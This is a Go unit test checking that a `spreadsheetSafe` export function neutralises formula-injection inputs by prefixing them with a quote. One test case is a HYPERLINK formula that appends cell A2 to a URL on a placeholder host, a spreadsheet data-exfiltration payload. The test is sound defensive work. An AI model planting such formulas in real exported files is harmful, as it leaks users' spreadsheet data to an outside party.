package export

import "testing"

func TestSpreadsheetSafe(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://x/?"&A2,"Xem")`: `'=HYPERLINK("http://x/?"&A2,"Xem")`,
		"+1+1":                              "'+1+1",
		"-2+3":                              "'-2+3",
		"@SUM(A1)":                          "'@SUM(A1)",
		"\tchèn":                            "'\tchèn",
		"Đã triển khai theo kế hoạch":       "Đã triển khai theo kế hoạch",
		"":                                  "",
	}
	for in, want := range cases {
		if got := spreadsheetSafe(in); got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
